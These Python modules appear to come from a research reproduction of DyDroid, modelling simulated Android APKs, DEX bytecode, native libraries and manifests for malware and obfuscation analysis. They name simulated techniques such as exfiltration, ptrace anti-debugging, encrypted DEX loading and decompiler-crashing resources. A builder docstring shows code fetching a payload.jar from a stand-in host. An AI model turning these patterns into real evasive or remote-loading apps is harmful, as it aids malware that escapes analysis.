Libraries serialize to bytes behind the real ELF magic so they can live in
the virtual filesystem and be intercepted like any other file.
"""

from __future__ import annotations

import enum
import hashlib
import json
from dataclasses import dataclass, field
from typing import Dict, Iterator, List, Optional, Tuple

ELF_MAGIC = b"\x7fELF\x02\x01\x01\x00"


class NativeFormatError(ValueError):
    """Raised when bytes do not decode to a valid native library."""


class NativeOp(enum.Enum):
    """Pseudo-native opcodes (a coarse ARM-like subset)."""

    MOV = "mov"        # MOV dst, src
    LDR = "ldr"        # LDR dst, [addr]
    STR = "str"        # STR src, [addr]
    ADD = "add"
    SUB = "sub"
    XOR = "xor"
    CMP = "cmp"        # CMP a, b
    B = "b"            # unconditional branch (block terminator)
    BNE = "bne"        # conditional branches (block terminators)
    BEQ = "beq"
    BL = "bl"          # call; arg 0 names the target symbol, e.g. "libc!ptrace"
    SVC = "svc"        # syscall; arg 0 names the syscall
    RET = "ret"


@dataclass(frozen=True)
class NativeInsn:
    """One pseudo-native instruction; operands are strings or ints."""

    op: NativeOp
    args: Tuple[object, ...] = ()

    def __str__(self) -> str:
        return "{} {}".format(self.op.value, ", ".join(map(str, self.args))).strip()

    @property
    def call_target(self) -> Optional[str]:
        """The called symbol for BL, the syscall name for SVC, else None."""
        if self.op in (NativeOp.BL, NativeOp.SVC) and self.args:
            return str(self.args[0])
        return None


@dataclass
class NativeBlock:
    """A basic block: label, instructions, successor labels."""

    label: str
    insns: List[NativeInsn] = field(default_factory=list)
    successors: List[str] = field(default_factory=list)

    def call_targets(self) -> List[str]:
        targets = [i.call_target for i in self.insns]
        return [t for t in targets if t is not None]


@dataclass
class NativeFunction:
    """An exported function: a CFG of blocks, entry at ``blocks[0]``."""

    name: str
    blocks: List[NativeBlock] = field(default_factory=list)

    def block(self, label: str) -> Optional[NativeBlock]:
        for blk in self.blocks:
            if blk.label == label:
                return blk
        return None

    def iter_insns(self) -> Iterator[NativeInsn]:
        for blk in self.blocks:
            yield from blk.insns


# Intrinsic kinds the simulated JNI knows how to execute.  Parameters live in
# NativeLibrary.intrinsics[fn_name]["..."] next to "kind".
INTRINSIC_NOOP = "noop"
INTRINSIC_DECRYPT_AND_LOAD = "decrypt_and_load_dex"
INTRINSIC_PTRACE_HOOK = "ptrace_hook"
INTRINSIC_ANTI_DEBUG = "anti_debug_ptrace_loop"
INTRINSIC_EXFILTRATE = "exfiltrate"

KNOWN_INTRINSICS = frozenset(
    {
        INTRINSIC_NOOP,
        INTRINSIC_DECRYPT_AND_LOAD,
        INTRINSIC_PTRACE_HOOK,
        INTRINSIC_ANTI_DEBUG,
        INTRINSIC_EXFILTRATE,
    }
)


@dataclass
class NativeLibrary:
    """A pseudo-native ``.so``: exported functions plus runtime intrinsics."""

    name: str                       # e.g. "libpayload.so"
    arch: str = "arm"               # "arm" or "x86" -- DroidNative handles both
    functions: List[NativeFunction] = field(default_factory=list)
    intrinsics: Dict[str, dict] = field(default_factory=dict)

    def __post_init__(self) -> None:
        for fn_name, spec in self.intrinsics.items():
            kind = spec.get("kind")
            if kind not in KNOWN_INTRINSICS:
                raise ValueError(
                    "unknown intrinsic kind {!r} on {}".format(kind, fn_name)
                )

    def function(self, name: str) -> Optional[NativeFunction]:
        for fn in self.functions:
            if fn.name == name:
                return fn
        return None

    def exported_names(self) -> List[str]:
        return [fn.name for fn in self.functions]

    def call_targets(self) -> List[str]:
        """All symbols/syscalls referenced anywhere in the library."""
        targets: List[str] = []
        for fn in self.functions:
            for blk in fn.blocks:
                targets.extend(blk.call_targets())
        return targets

    # -- serialization -------------------------------------------------------

    def to_bytes(self) -> bytes:
        body = json.dumps(_encode_library(self), sort_keys=True).encode("utf-8")
        return ELF_MAGIC + body

    @classmethod
    def from_bytes(cls, data: bytes) -> "NativeLibrary":
        if not data.startswith(ELF_MAGIC):
            raise NativeFormatError("bad magic; not a native library")
        try:
            payload = json.loads(data[len(ELF_MAGIC):].decode("utf-8"))
        except (UnicodeDecodeError, json.JSONDecodeError) as exc:
            raise NativeFormatError("corrupt native library body") from exc
        return _decode_library(payload)

    def sha256(self) -> str:
        return hashlib.sha256(self.to_bytes()).hexdigest()


def is_native_bytes(data: bytes) -> bool:
    """True when the payload carries ELF magic."""
    return data.startswith(ELF_MAGIC)


def _encode_library(lib: NativeLibrary) -> dict:
    return {
        "name": lib.name,
        "arch": lib.arch,
        "intrinsics": lib.intrinsics,
        "functions": [
            {
                "name": fn.name,
                "blocks": [
                    {
                        "label": blk.label,
                        "succ": blk.successors,
                        "insns": [
                            [i.op.value, list(i.args)] for i in blk.insns
                        ],
                    }
                    for blk in fn.blocks
                ],
            }
            for fn in lib.functions
        ],
    }


def _decode_library(payload: dict) -> NativeLibrary:
    try:
        functions = []
        for raw_fn in payload["functions"]:
            blocks = [
                NativeBlock(
                    label=raw_blk["label"],
                    successors=list(raw_blk["succ"]),
                    insns=[
                        NativeInsn(NativeOp(op), tuple(args))
                        for op, args in raw_blk["insns"]
                    ],
                )
                for raw_blk in raw_fn["blocks"]
            ]
            functions.append(NativeFunction(name=raw_fn["name"], blocks=blocks))
        return NativeLibrary(
            name=payload["name"],
            arch=payload.get("arch", "arm"),
            functions=functions,
            intrinsics=dict(payload.get("intrinsics", {})),
        )
    except (KeyError, TypeError, ValueError) as exc:
        raise NativeFormatError("malformed native library payload") from exc
