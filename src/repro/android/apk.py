"""The APK installation package.

An :class:`Apk` is a zip-like archive of named entries, mirroring a real
installation package:

- ``AndroidManifest.xml`` -- serialized :class:`AndroidManifest`;
- ``classes.dex``, ``classes2.dex``, ... -- serialized DEX files;
- ``lib/<arch>/<name>.so`` -- serialized native libraries;
- ``assets/...`` -- arbitrary resources, including packed (encrypted) DEX
  payloads for hardened apps;
- ``META-INF/...`` -- signing/integrity data.

Two in-the-wild defenses are represented *inside* the archive, so the
analysis tooling discovers them the way apktool does -- by choking on them:

- :data:`ANTI_DECOMPILATION_ENTRY`: a resource crafted to crash the
  decompiler (apps using decompiler implementation bugs);
- :data:`ANTI_REPACKAGING_ENTRY`: integrity data the rewriter cannot
  regenerate, so rewrite/repack fails ("Rewriting failure" in Table II).
"""

from __future__ import annotations

import hashlib
import json
from dataclasses import dataclass, field
from typing import Dict, Iterator, List, Optional, Tuple

from repro.android.dex import DexFile, is_dex_bytes, is_encrypted_dex_bytes
from repro.android.manifest import AndroidManifest
from repro.android.nativelib import NativeLibrary, is_native_bytes

MANIFEST_ENTRY = "AndroidManifest.xml"
PRIMARY_DEX_ENTRY = "classes.dex"
ANTI_DECOMPILATION_ENTRY = "res/raw/odd.arsc"
ANTI_REPACKAGING_ENTRY = "META-INF/INTEGRITY.SF"


class ApkFormatError(ValueError):
    """Raised on malformed APK payloads."""


@dataclass(frozen=True)
class ApkEntry:
    """A named member of the archive."""

    path: str
    data: bytes


@dataclass
class Apk:
    """An installation package: ordered mapping of entry path -> bytes."""

    entries: Dict[str, bytes] = field(default_factory=dict)

    # -- construction ----------------------------------------------------------

    @classmethod
    def build(
        cls,
        manifest: AndroidManifest,
        dex_files: Optional[List[DexFile]] = None,
        native_libs: Optional[List[NativeLibrary]] = None,
        assets: Optional[Dict[str, bytes]] = None,
    ) -> "Apk":
        """Assemble an APK from parsed artifacts."""
        apk = cls()
        apk.put_manifest(manifest)
        for index, dex in enumerate(dex_files or []):
            name = PRIMARY_DEX_ENTRY if index == 0 else "classes{}.dex".format(index + 1)
            apk.entries[name] = dex.to_bytes()
        for lib in native_libs or []:
            apk.entries["lib/{}/{}".format(lib.arch, lib.name)] = lib.to_bytes()
        for path, data in (assets or {}).items():
            apk.entries[path] = data
        return apk

    def put_manifest(self, manifest: AndroidManifest) -> None:
        self.entries[MANIFEST_ENTRY] = manifest.to_bytes()

    def add_asset(self, path: str, data: bytes) -> None:
        self.entries[path] = data

    def enable_anti_decompilation(self) -> None:
        """Plant the resource that crashes the decompiler."""
        self.entries[ANTI_DECOMPILATION_ENTRY] = b"\x00\x03garbled-resource-table"

    def enable_anti_repackaging(self) -> None:
        """Plant integrity data the rewriter cannot regenerate."""
        digest = hashlib.sha256(self.to_bytes()).hexdigest().encode("ascii")
        self.entries[ANTI_REPACKAGING_ENTRY] = b"SHA-256:" + digest

    # -- accessors -------------------------------------------------------------

    @property
    def manifest(self) -> AndroidManifest:
        raw = self.entries.get(MANIFEST_ENTRY)
        if raw is None:
            raise ApkFormatError("APK has no AndroidManifest.xml")
        return AndroidManifest.from_bytes(raw)

    @property
    def package(self) -> str:
        return self.manifest.package

    def dex_entries(self) -> List[Tuple[str, bytes]]:
        """(path, bytes) for every valid DEX member, primary first."""
        found = [
            (path, data)
            for path, data in self.entries.items()
            if path.endswith(".dex") and "/" not in path and is_dex_bytes(data)
        ]
        return sorted(found, key=lambda item: item[0])

    def dex_files(self) -> List[DexFile]:
        return [DexFile.from_bytes(data) for _, data in self.dex_entries()]

    def native_lib_entries(self) -> List[Tuple[str, bytes]]:
        found = [
            (path, data)
            for path, data in self.entries.items()
            if path.startswith("lib/") and is_native_bytes(data)
        ]
        return sorted(found, key=lambda item: item[0])

    def native_libs(self) -> List[NativeLibrary]:
        return [NativeLibrary.from_bytes(data) for _, data in self.native_lib_entries()]

    def asset_entries(self) -> List[Tuple[str, bytes]]:
        found = [
            (path, data)
            for path, data in self.entries.items()
            if path.startswith("assets/")
        ]
        return sorted(found, key=lambda item: item[0])

    def packed_payload_entries(self) -> List[Tuple[str, bytes]]:
        """Assets that are encrypted DEX payloads (hardened apps)."""
        return [
            (path, data)
            for path, data in self.asset_entries()
            if is_encrypted_dex_bytes(data)
        ]

    def has_local_bytecode_store(self) -> bool:
        """Whether any entry *could* store loadable bytecode.

        The paper's packer rule requires "a file in a format that supports
        bytecode storage found locally" -- JAR/ZIP/DEX/APK-ish assets or
        encrypted payloads.
        """
        loadable_suffixes = (".jar", ".zip", ".dex", ".apk", ".bin", ".dat")
        for path, data in self.asset_entries():
            if path.endswith(loadable_suffixes) or is_encrypted_dex_bytes(data):
                return True
        return False

    @property
    def is_anti_decompilation(self) -> bool:
        return ANTI_DECOMPILATION_ENTRY in self.entries

    @property
    def is_anti_repackaging(self) -> bool:
        return ANTI_REPACKAGING_ENTRY in self.entries

    def iter_entries(self) -> Iterator[ApkEntry]:
        for path in sorted(self.entries):
            yield ApkEntry(path, self.entries[path])

    # -- serialization ----------------------------------------------------------

    def to_bytes(self) -> bytes:
        payload = {
            path: data.hex() for path, data in sorted(self.entries.items())
        }
        return b"PK\x03\x04" + json.dumps(payload, sort_keys=True).encode("utf-8")

    @classmethod
    def from_bytes(cls, data: bytes) -> "Apk":
        if not data.startswith(b"PK\x03\x04"):
            raise ApkFormatError("bad magic; not an APK")
        try:
            payload = json.loads(data[4:].decode("utf-8"))
            return cls(entries={p: bytes.fromhex(h) for p, h in payload.items()})
        except (UnicodeDecodeError, json.JSONDecodeError, ValueError) as exc:
            raise ApkFormatError("corrupt APK body") from exc

    def sha256(self) -> str:
        return hashlib.sha256(self.to_bytes()).hexdigest()

    def clone(self) -> "Apk":
        """Deep copy, used by the rewriter before repacking."""
        return Apk(entries=dict(self.entries))
