"""Android application artifact model.

This package defines the on-disk artifact formats of the simulated Android
ecosystem that DyDroid analyzes:

- :mod:`repro.android.bytecode` -- the mini-DEX register instruction set
  shared by the Dalvik-style VM and every static analysis.
- :mod:`repro.android.dex` -- DEX files (collections of classes), their
  byte-level serialization, ODEX optimization, and XOR packing ("DEX
  encryption") used by app-hardening vendors.
- :mod:`repro.android.nativelib` -- pseudo-native ``.so`` libraries with a
  block-structured pseudo-ISA that DroidNative can lift to MAIL.
- :mod:`repro.android.manifest` -- the AndroidManifest model (package name,
  components, permissions, sdk versions, ``android:name`` application class).
- :mod:`repro.android.apk` -- the installation package bundling manifest,
  DEX files, native libraries, assets, and resources.
- :mod:`repro.android.builders` -- fluent construction helpers for bytecode.
"""

from repro.android.apk import Apk, ApkEntry
from repro.android.bytecode import (
    Cmp,
    FieldRef,
    Instruction,
    MethodRef,
    Op,
)
from repro.android.dex import DexClass, DexField, DexFile, DexMethod
from repro.android.manifest import AndroidManifest, Component, ComponentKind
from repro.android.nativelib import NativeBlock, NativeInsn, NativeLibrary, NativeOp
from repro.android.builders import MethodBuilder, class_builder

__all__ = [
    "AndroidManifest",
    "Apk",
    "ApkEntry",
    "Cmp",
    "Component",
    "ComponentKind",
    "DexClass",
    "DexField",
    "DexFile",
    "DexMethod",
    "FieldRef",
    "Instruction",
    "MethodBuilder",
    "MethodRef",
    "NativeBlock",
    "NativeInsn",
    "NativeLibrary",
    "NativeOp",
    "Op",
    "class_builder",
]
