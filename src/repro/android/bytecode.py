"""The mini-DEX instruction set.

Real Android apps compile Java to Dalvik bytecode, a register machine.  This
module defines a faithful miniature of that ISA: enough register ops, control
flow, field access, and method invocation for (a) a Dalvik-style interpreter
to execute applications against the simulated framework, and (b) the static
analyses (prefilter, FlowDroid-style taint tracking, MAIL lifting, lexical
scanning) to operate on exactly the code the VM runs.

Every instruction is a :class:`Instruction` with an :class:`Op` opcode and a
small tuple of operands.  Method and field references are symbolic
(:class:`MethodRef` / :class:`FieldRef`), mirroring how DEX refers to
methods by (class, name, proto) triples.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, field
from typing import Optional, Tuple, Union


class Op(enum.Enum):
    """Opcodes of the mini-DEX instruction set."""

    NOP = "nop"
    CONST = "const"                  # CONST dst, literal(int|str|None)
    MOVE = "move"                    # MOVE dst, src
    NEW_INSTANCE = "new-instance"    # NEW_INSTANCE dst, class_name
    NEW_ARRAY = "new-array"          # NEW_ARRAY dst, size_reg
    INVOKE = "invoke"                # INVOKE method_ref, (arg regs...)
    MOVE_RESULT = "move-result"      # MOVE_RESULT dst
    IGET = "iget"                    # IGET dst, obj, field_ref
    IPUT = "iput"                    # IPUT src, obj, field_ref
    SGET = "sget"                    # SGET dst, field_ref
    SPUT = "sput"                    # SPUT src, field_ref
    AGET = "aget"                    # AGET dst, array, index_reg
    APUT = "aput"                    # APUT src, array, index_reg
    IF = "if"                        # IF cmp, a, b, label
    GOTO = "goto"                    # GOTO label
    RETURN = "return"                # RETURN src
    RETURN_VOID = "return-void"
    THROW = "throw"                  # THROW src
    BINOP = "binop"                  # BINOP op_name, dst, a, b
    LABEL = "label"                  # pseudo-instruction marking a jump target
    TRY_START = "try-start"          # TRY_START handler_label [exception_class]
    TRY_END = "try-end"              # pop the innermost handler
    MOVE_EXCEPTION = "move-exception"  # dst := the caught exception object


class Cmp(enum.Enum):
    """Comparison kinds for :attr:`Op.IF`."""

    EQ = "eq"
    NE = "ne"
    LT = "lt"
    LE = "le"
    GT = "gt"
    GE = "ge"
    EQZ = "eqz"
    NEZ = "nez"


@dataclass(frozen=True)
class MethodRef:
    """Symbolic reference to a method, as stored in a DEX method table."""

    class_name: str
    name: str
    arity: int = 0

    def __str__(self) -> str:
        return "{}.{}/{}".format(self.class_name, self.name, self.arity)

    @property
    def package(self) -> str:
        """The Java package of the declaring class."""
        head, _, _ = self.class_name.rpartition(".")
        return head


@dataclass(frozen=True)
class FieldRef:
    """Symbolic reference to a field."""

    class_name: str
    name: str

    def __str__(self) -> str:
        return "{}.{}".format(self.class_name, self.name)


Operand = Union[int, str, None, Cmp, MethodRef, FieldRef, Tuple[int, ...]]


@dataclass(frozen=True)
class Instruction:
    """One mini-DEX instruction.

    ``args`` layout by opcode is documented on :class:`Op`.  Instances are
    immutable so instruction lists can be shared between the VM and static
    analyses without defensive copying.
    """

    op: Op
    args: Tuple[Operand, ...] = field(default_factory=tuple)

    def __str__(self) -> str:
        rendered = ", ".join(str(a) for a in self.args)
        return "{} {}".format(self.op.value, rendered).strip()

    # -- convenience predicates used by the static analyses -----------------

    @property
    def is_invoke(self) -> bool:
        return self.op is Op.INVOKE

    @property
    def invoked(self) -> Optional[MethodRef]:
        """The invoked method, or None when this is not an invoke."""
        if self.op is Op.INVOKE:
            return self.args[0]  # type: ignore[return-value]
        return None

    @property
    def is_terminator(self) -> bool:
        """True for instructions ending a basic block."""
        return self.op in (Op.RETURN, Op.RETURN_VOID, Op.THROW, Op.GOTO, Op.IF)


# -- instruction constructors ------------------------------------------------
# These keep call sites terse and protect operand layouts in one place.


def const(dst: int, literal: Union[int, str, None]) -> Instruction:
    return Instruction(Op.CONST, (dst, literal))


def move(dst: int, src: int) -> Instruction:
    return Instruction(Op.MOVE, (dst, src))


def new_instance(dst: int, class_name: str) -> Instruction:
    return Instruction(Op.NEW_INSTANCE, (dst, class_name))


def invoke(ref: MethodRef, *arg_regs: int) -> Instruction:
    return Instruction(Op.INVOKE, (ref, tuple(arg_regs)))


def move_result(dst: int) -> Instruction:
    return Instruction(Op.MOVE_RESULT, (dst,))


def iget(dst: int, obj: int, ref: FieldRef) -> Instruction:
    return Instruction(Op.IGET, (dst, obj, ref))


def iput(src: int, obj: int, ref: FieldRef) -> Instruction:
    return Instruction(Op.IPUT, (src, obj, ref))


def sget(dst: int, ref: FieldRef) -> Instruction:
    return Instruction(Op.SGET, (dst, ref))


def sput(src: int, ref: FieldRef) -> Instruction:
    return Instruction(Op.SPUT, (src, ref))


def if_cmp(cmp: Cmp, a: int, b: Optional[int], label: str) -> Instruction:
    return Instruction(Op.IF, (cmp, a, b, label))


def goto(label: str) -> Instruction:
    return Instruction(Op.GOTO, (label,))


def label(name: str) -> Instruction:
    return Instruction(Op.LABEL, (name,))


def ret(src: int) -> Instruction:
    return Instruction(Op.RETURN, (src,))


def ret_void() -> Instruction:
    return Instruction(Op.RETURN_VOID)


def throw(src: int) -> Instruction:
    return Instruction(Op.THROW, (src,))


def binop(name: str, dst: int, a: int, b: int) -> Instruction:
    return Instruction(Op.BINOP, (name, dst, a, b))


def try_start(handler_label: str, exception_class: str = "java.lang.Throwable") -> Instruction:
    return Instruction(Op.TRY_START, (handler_label, exception_class))


def try_end() -> Instruction:
    return Instruction(Op.TRY_END)


def move_exception(dst: int) -> Instruction:
    return Instruction(Op.MOVE_EXCEPTION, (dst,))
