"""Fluent construction of mini-DEX bytecode.

The corpus generator, the behavior templates, and many tests need to emit
bytecode.  :class:`MethodBuilder` handles register allocation and label
bookkeeping so call sites read like the Java they stand in for::

    b = MethodBuilder("onCreate", "com.example.app.MainActivity", arity=1)
    url = b.new_string("http://cdn.example.com/payload.jar")
    conn = b.call_virtual("java.net.URL", "openConnection", url)
    ...
    b.ret_void()
    method = b.build()
"""

from __future__ import annotations

import itertools
from typing import List, Optional

from repro.android import bytecode as bc
from repro.android.bytecode import Cmp, FieldRef, Instruction, MethodRef, Op
from repro.android.dex import DexClass, DexFile, DexMethod


class MethodBuilder:
    """Accumulates instructions for one method, allocating registers."""

    def __init__(
        self,
        name: str,
        class_name: str,
        arity: int = 0,
        is_static: bool = False,
        is_public: bool = True,
    ) -> None:
        self.name = name
        self.class_name = class_name
        self.arity = arity
        self.is_static = is_static
        self.is_public = is_public
        self._insns: List[Instruction] = []
        # parameter registers occupy 0..arity-1 (plus `this` in register 0
        # for instance methods; we keep the flat convention: args first).
        self._next_reg = arity
        self._label_counter = itertools.count()

    # -- registers and labels --------------------------------------------------

    def reg(self) -> int:
        """Allocate a fresh register."""
        register = self._next_reg
        self._next_reg += 1
        return register

    def arg(self, index: int) -> int:
        """Register holding the index-th parameter."""
        if index >= self.arity:
            raise IndexError("method has arity {}".format(self.arity))
        return index

    def fresh_label(self, hint: str = "L") -> str:
        return "{}{}".format(hint, next(self._label_counter))

    # -- raw emission ------------------------------------------------------------

    def emit(self, insn: Instruction) -> None:
        self._insns.append(insn)

    # -- constants and moves -------------------------------------------------------

    def new_string(self, value: str) -> int:
        register = self.reg()
        self.emit(bc.const(register, value))
        return register

    def new_int(self, value: int) -> int:
        register = self.reg()
        self.emit(bc.const(register, value))
        return register

    def new_null(self) -> int:
        register = self.reg()
        self.emit(bc.const(register, None))
        return register

    def move(self, dst: int, src: int) -> None:
        self.emit(bc.move(dst, src))

    def new_instance_of(self, class_name: str, *ctor_args: int) -> int:
        """NEW_INSTANCE + constructor invoke; returns the object register."""
        register = self.reg()
        self.emit(bc.new_instance(register, class_name))
        self.emit(
            bc.invoke(
                MethodRef(class_name, "<init>", 1 + len(ctor_args)),
                register,
                *ctor_args,
            )
        )
        return register

    # -- calls ---------------------------------------------------------------------

    def call_static(self, class_name: str, method: str, *args: int) -> int:
        """Invoke a static method and capture its result register."""
        self.emit(bc.invoke(MethodRef(class_name, method, len(args)), *args))
        result = self.reg()
        self.emit(bc.move_result(result))
        return result

    def call_virtual(self, class_name: str, method: str, receiver: int, *args: int) -> int:
        """Invoke an instance method (receiver first) and capture the result."""
        self.emit(
            bc.invoke(MethodRef(class_name, method, 1 + len(args)), receiver, *args)
        )
        result = self.reg()
        self.emit(bc.move_result(result))
        return result

    def call_void(self, class_name: str, method: str, *args: int) -> None:
        """Invoke without capturing a result."""
        self.emit(bc.invoke(MethodRef(class_name, method, len(args)), *args))

    # -- fields ----------------------------------------------------------------------

    def get_field(self, obj: int, class_name: str, name: str) -> int:
        register = self.reg()
        self.emit(bc.iget(register, obj, FieldRef(class_name, name)))
        return register

    def put_field(self, src: int, obj: int, class_name: str, name: str) -> None:
        self.emit(bc.iput(src, obj, FieldRef(class_name, name)))

    def get_static(self, class_name: str, name: str) -> int:
        register = self.reg()
        self.emit(bc.sget(register, FieldRef(class_name, name)))
        return register

    def put_static(self, src: int, class_name: str, name: str) -> None:
        self.emit(bc.sput(src, FieldRef(class_name, name)))

    # -- control flow ------------------------------------------------------------------

    def if_cmp(self, cmp: Cmp, a: int, b: Optional[int], target: str) -> None:
        self.emit(bc.if_cmp(cmp, a, b, target))

    def if_eqz(self, register: int, target: str) -> None:
        self.emit(bc.if_cmp(Cmp.EQZ, register, None, target))

    def if_nez(self, register: int, target: str) -> None:
        self.emit(bc.if_cmp(Cmp.NEZ, register, None, target))

    def goto(self, target: str) -> None:
        self.emit(bc.goto(target))

    def label(self, name: str) -> None:
        self.emit(bc.label(name))

    def ret(self, register: int) -> None:
        self.emit(bc.ret(register))

    def ret_void(self) -> None:
        self.emit(bc.ret_void())

    def throw_new(self, exception_class: str = "java.lang.RuntimeException") -> None:
        register = self.reg()
        self.emit(bc.new_instance(register, exception_class))
        self.emit(bc.throw(register))

    def binop(self, op_name: str, a: int, b: int) -> int:
        register = self.reg()
        self.emit(bc.binop(op_name, register, a, b))
        return register

    # -- exception handling ------------------------------------------------------

    def try_start(self, handler_label: str, exception_class: str = "java.lang.Throwable") -> None:
        self.emit(bc.try_start(handler_label, exception_class))

    def try_end(self) -> None:
        self.emit(bc.try_end())

    def move_exception(self) -> int:
        register = self.reg()
        self.emit(bc.move_exception(register))
        return register

    # -- finish ----------------------------------------------------------------------

    def build(self) -> DexMethod:
        insns = list(self._insns)
        if not insns or not insns[-1].is_terminator:
            insns.append(bc.ret_void())
        return DexMethod(
            name=self.name,
            class_name=self.class_name,
            arity=self.arity,
            registers=max(self._next_reg, self.arity, 1),
            is_public=self.is_public,
            is_static=self.is_static,
            instructions=insns,
        )


def class_builder(name: str, superclass: str = "java.lang.Object") -> DexClass:
    """Create an empty class; add methods with :meth:`DexClass.add_method`."""
    return DexClass(name=name, superclass=superclass)


def empty_method(
    name: str, class_name: str, arity: int = 0, is_static: bool = False
) -> DexMethod:
    """A method whose body immediately returns -- filler for realistic classes."""
    builder = MethodBuilder(name, class_name, arity=arity, is_static=is_static)
    builder.ret_void()
    return builder.build()


def build_secondary_dex(classes: List[DexClass], index: int = 2) -> DexFile:
    """A ``classesN.dex`` member for a multi-dex APK (``index`` >= 2)."""
    if index < 2:
        raise ValueError("secondary dex index starts at 2, got {}".format(index))
    return DexFile(classes=list(classes), source_name="classes{}.dex".format(index))


def build_split_apk(
    package: str,
    split_name: str,
    classes: List[DexClass],
    version_code: int = 1,
    min_sdk: int = 14,
) -> "Apk":
    """A feature/config split APK: split-stamped manifest + one dex.

    Splits declare no components of their own (the base APK's manifest
    owns the component table); they only contribute code and resources.
    """
    from repro.android.apk import Apk
    from repro.android.manifest import AndroidManifest

    manifest = AndroidManifest(
        package=package,
        version_code=version_code,
        min_sdk=min_sdk,
        split=split_name,
    )
    return Apk.build(manifest, dex_files=[DexFile(classes=list(classes))])
