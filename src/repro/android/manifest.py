"""The AndroidManifest model.

DyDroid's obfuscation rules hinge on manifest facts: the ``android:name``
attribute of the ``<application>`` tag (the container class packers inject),
the set of declared components (packers declare components whose bytecode is
not in ``classes.dex``), declared permissions (the rewriter adds
``WRITE_EXTERNAL_STORAGE`` when missing), and the supported SDK range (the
external-storage code-injection vulnerability applies below Android 4.4,
i.e. ``min_sdk < 19``).
"""

from __future__ import annotations

import enum
import json
from dataclasses import dataclass, field
from typing import List, Optional, Set

WRITE_EXTERNAL_STORAGE = "android.permission.WRITE_EXTERNAL_STORAGE"
INTERNET = "android.permission.INTERNET"
READ_PHONE_STATE = "android.permission.READ_PHONE_STATE"
ACCESS_FINE_LOCATION = "android.permission.ACCESS_FINE_LOCATION"
GET_ACCOUNTS = "android.permission.GET_ACCOUNTS"
READ_CONTACTS = "android.permission.READ_CONTACTS"

#: API level at which external storage stopped being world-writable.
KITKAT_API_LEVEL = 19


class ManifestError(ValueError):
    """Raised on malformed manifest payloads."""


class ComponentKind(enum.Enum):
    ACTIVITY = "activity"
    SERVICE = "service"
    RECEIVER = "receiver"
    PROVIDER = "provider"


@dataclass(frozen=True)
class Component:
    """A declared application component."""

    kind: ComponentKind
    name: str
    is_launcher: bool = False
    #: for receivers: the intent action filtered and the ordered-broadcast
    #: priority (high priorities run first and may abort the chain).
    intent_action: Optional[str] = None
    priority: int = 0


@dataclass
class AndroidManifest:
    """AndroidManifest.xml contents relevant to DyDroid."""

    package: str
    version_code: int = 1
    min_sdk: int = 14
    target_sdk: int = 18
    permissions: Set[str] = field(default_factory=set)
    components: List[Component] = field(default_factory=list)
    #: the android:name attribute on <application>, or None when absent.
    application_name: Optional[str] = None
    #: split name for feature/config APKs (``split="..."`` on <manifest>);
    #: ``None`` for a base APK.  Serialized only when set so base-APK
    #: manifests stay byte-identical to pre-split corpora.
    split: Optional[str] = None

    def has_permission(self, permission: str) -> bool:
        return permission in self.permissions

    def add_permission(self, permission: str) -> None:
        self.permissions.add(permission)

    def activities(self) -> List[Component]:
        return [c for c in self.components if c.kind is ComponentKind.ACTIVITY]

    def component_names(self) -> Set[str]:
        return {c.name for c in self.components}

    def launcher_activity(self) -> Optional[Component]:
        for component in self.components:
            if component.kind is ComponentKind.ACTIVITY and component.is_launcher:
                return component
        activities = self.activities()
        return activities[0] if activities else None

    def supports_pre_kitkat(self) -> bool:
        """True when the app runs on OS versions below Android 4.4."""
        return self.min_sdk < KITKAT_API_LEVEL

    # -- serialization (stored as an APK entry) -------------------------------

    def to_bytes(self) -> bytes:
        payload = {
            "package": self.package,
            "version_code": self.version_code,
            "min_sdk": self.min_sdk,
            "target_sdk": self.target_sdk,
            "permissions": sorted(self.permissions),
            "application_name": self.application_name,
            "components": [
                [c.kind.value, c.name, c.is_launcher, c.intent_action, c.priority]
                for c in self.components
            ],
        }
        if self.split:
            payload["split"] = self.split
        return json.dumps(payload, sort_keys=True).encode("utf-8")

    @classmethod
    def from_bytes(cls, data: bytes) -> "AndroidManifest":
        try:
            payload = json.loads(data.decode("utf-8"))
            return cls(
                package=payload["package"],
                version_code=payload["version_code"],
                min_sdk=payload["min_sdk"],
                target_sdk=payload["target_sdk"],
                permissions=set(payload["permissions"]),
                application_name=payload["application_name"],
                components=[
                    Component(ComponentKind(raw[0]), raw[1], raw[2], *raw[3:5])
                    for raw in payload["components"]
                ],
                split=payload.get("split"),
            )
        except (KeyError, TypeError, ValueError) as exc:
            raise ManifestError("malformed manifest payload") from exc
